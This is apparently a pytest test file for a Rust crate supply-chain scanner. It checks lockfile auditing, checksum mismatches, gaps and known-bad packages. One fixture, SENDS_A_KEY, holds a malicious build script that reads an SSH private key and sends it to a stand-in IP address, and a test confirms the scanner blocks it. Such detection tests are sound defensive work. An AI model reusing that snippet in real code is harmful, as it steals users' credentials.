from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator
from dataclasses import replace
from typing import Protocol, cast

import pytest

from analyzer.config import DEFAULT_INDEX, Settings
from analyzer.limits import DEFAULT_LIMITS
from analyzer.lockfile import read_lockfile
from analyzer.model import (
    Confidence,
    Context,
    CrateSource,
    Finding,
    KnownBad,
    Report,
    Severity,
    Support,
    Verdict,
)
from analyzer.project.audit import AuditResult, audit_names
from analyzer.project.locks import Locks
from analyzer.project.scan_lock import scan_locked, scannable
from analyzer.worker.pool import Pool
from analyzer.worker.verdicts import unanswered

SOURCE = f"sparse+{DEFAULT_INDEX}"
SENDS_A_KEY = """
fn main() {
    let key = std::fs::read("/home/u/.ssh/id_rsa").unwrap();
    use std::io::Write;
    std::net::TcpStream::connect("198.51.100.7:443").unwrap().write_all(&key).unwrap();
}
"""
LockText = Callable[..., str]


class Shelf(Protocol):
    settings: Settings

    def put(self, name: str, version: str, build: str = "") -> str: ...

    def put_line(self, name: str, version: str, checksum: str) -> None: ...


class Judge:
    """Stands for the workers: remembers what it was given, says what it was told to say."""

    def __init__(self, verdicts: dict[str, Verdict], rule: str = "some-rule") -> None:
        self.verdicts, self.rule = verdicts, rule
        self.seen: list[tuple[str, int]] = []

    def analyze_many(
        self, crates: Iterable[CrateSource], context_for: Callable[[CrateSource], Context]
    ) -> Iterator[Report]:
        for crate in crates:
            self.seen.append((crate.ref.name, len(context_for(crate).index_entries)))
            verdict = self.verdicts.get(crate.ref.name, Verdict.CLEAR)
            plain = unanswered(crate, "", DEFAULT_LIMITS)
            finding = Finding(
                self.rule, "", Severity.HIGH, Confidence.HIGH, Support.STATIC, (), (), (), ()
            )
            found = () if verdict in (Verdict.CLEAR, Verdict.INCOMPLETE) else (finding,)
            yield replace(plain, verdict=verdict, summary=f"is {verdict}", findings=found)


def names(*texts: str, known: dict[str, KnownBad] | None = None) -> AuditResult:
    read = tuple(
        read_lockfile(text.encode(), path=f"{number}.lock") for number, text in enumerate(texts)
    )
    return audit_names(Locks(read, ()), known or {}, "digest", is_scanned=True)


def scan(
    result: AuditResult, shelf: Shelf, judge: Judge | None = None
) -> tuple[AuditResult, list[str]]:
    done: list[str] = []
    pool = cast("Pool", judge or Judge({}))
    found = scan_locked(result, pool, shelf.settings, limits=DEFAULT_LIMITS, on_done=done.append)
    return found, done


def rows(result: AuditResult) -> list[tuple[str, Verdict, list[str]]]:
    return [
        (one.package.name, one.verdict, [why.rule for why in one.reasons]) for one in result.rows
    ]


def test_each_distinct_checksum_is_read_once(lock_text: LockText, shelf: Shelf) -> None:
    a, b = shelf.put("a", "1.0.0"), shelf.put("b", "2.0.0")
    text = lock_text(f"a 1.0.0 {SOURCE} {a}", f"b 2.0.0 {SOURCE} {b}")
    other = lock_text(f"a 1.0.0 {SOURCE} {a}", f"a 1.0.0 {SOURCE} -")
    judge = Judge({})

    result, done = scan(names(text, other), shelf, judge)

    assert judge.seen == [("a", 1), ("b", 1)]
    assert len(done) == len(scannable(result)) == 3
    assert (result.verdict, result.rows) == (Verdict.CLEAR, ())
    assert sorted(one.crate.name for one in result.reports) == ["a", "b"]


@pytest.mark.parametrize("verdict", [Verdict.BLOCK, Verdict.REVIEW, Verdict.INCOMPLETE])
def test_verdict_on_contents_is_a_row_with_its_report(
    lock_text: LockText, shelf: Shelf, verdict: Verdict
) -> None:
    text = lock_text(f"a 1.0.0 {SOURCE} {shelf.put('a', '1.0.0')}")
    result, _ = scan(names(text, text), shelf, Judge({"a": verdict}))

    assert rows(result) == [("a", verdict, ["scan"])]
    assert result.rows[0].reasons[0].text == f"is {verdict}"
    assert [one.lockfile for one in result.rows[0].places] == ["0.lock", "1.lock"]
    assert result.rows[0].report is not None
    assert result.verdict is verdict


def test_checksum_that_the_index_does_not_name_is_blocked_and_not_read(
    lock_text: LockText, shelf: Shelf
) -> None:
    shelf.put("a", "1.0.0")
    judge = Judge({})
    result, done = scan(names(lock_text(f"a 1.0.0 {SOURCE} {'00' * 32}")), shelf, judge)

    assert rows(result) == [("a", Verdict.BLOCK, ["checksum-mismatch"])]
    assert (judge.seen, done) == ([], ["a"])


def test_what_cannot_be_fetched_is_a_blocking_gap_at_every_place(
    lock_text: LockText, shelf: Shelf
) -> None:
    shelf.put_line("gone", "1.0.0", "ab" * 32)
    shelf.put("other", "1.0.0")
    text = lock_text("gone 1.0.0", "never 1.0.0", "other 1.0.7")
    result, done = scan(names(text, text), shelf)

    unread = [(one.path, one.line) for one in result.gaps if one.is_blocking]
    assert unread == [(path, line) for path in ("0.lock", "1.lock") for line in (8, 14, 20)]
    assert result.verdict is Verdict.INCOMPLETE
    assert len(done) == 3


def test_version_that_is_no_exact_one_is_a_gap(lock_text: LockText, shelf: Shelf) -> None:
    shelf.put("a", "1.0.0")
    result, _ = scan(names(lock_text(f"a 1 {SOURCE} -")), shelf)
    assert result.verdict is Verdict.INCOMPLETE


def test_name_that_is_none_is_a_gap(lock_text: LockText, shelf: Shelf) -> None:
    result, _ = scan(names(lock_text("../../x 1.0.0")), shelf)
    assert result.verdict is Verdict.INCOMPLETE


def test_packages_from_elsewhere_are_not_fetched(lock_text: LockText, shelf: Shelf) -> None:
    text = lock_text(
        "a 1.0.0 -", "b 1.0.0 git+https://git.invalid/b#0", "c 1.0.0 sparse+https://r.invalid/"
    )
    assert scannable(names(text)) == ()


def test_known_name_is_read_too_and_stays_one_row(lock_text: LockText, shelf: Shelf) -> None:
    known = {"a": KnownBad("a", ("*",), "affiliated", (), "", "Same owner.")}
    text = lock_text(f"a 1.0.0 {SOURCE} {shelf.put('a', '1.0.0')}")

    same, _ = scan(
        names(text, known=known), shelf, Judge({"a": Verdict.REVIEW}, "known-affiliated")
    )
    assert rows(same) == [("a", Verdict.REVIEW, ["known-affiliated"])]
    assert same.rows[0].report is not None

    more, _ = scan(names(text, known=known), shelf, Judge({"a": Verdict.BLOCK}))
    assert rows(more) == [("a", Verdict.BLOCK, ["scan", "known-affiliated"])]

    unread, _ = scan(names(text, known=known), shelf, Judge({"a": Verdict.INCOMPLETE}))
    assert rows(unread) == [("a", Verdict.INCOMPLETE, ["scan", "known-affiliated"])]


def test_workers_block_a_build_script_that_sends_a_key(lock_text: LockText, shelf: Shelf) -> None:
    evil, plain = shelf.put("evil", "1.0.0", SENDS_A_KEY), shelf.put("plain", "1.0.0")
    text = lock_text(f"evil 1.0.0 {SOURCE} {evil}", f"plain 1.0.0 {SOURCE} {plain}")
    with Pool(jobs=1) as pool:
        result = scan_locked(
            names(text), pool, shelf.settings, limits=DEFAULT_LIMITS, on_done=lambda _: None
        )

    assert rows(result) == [("evil", Verdict.BLOCK, ["scan"])]
    assert result.rows[0].places[0].chain == ("app 0.1.0", "evil 1.0.0")
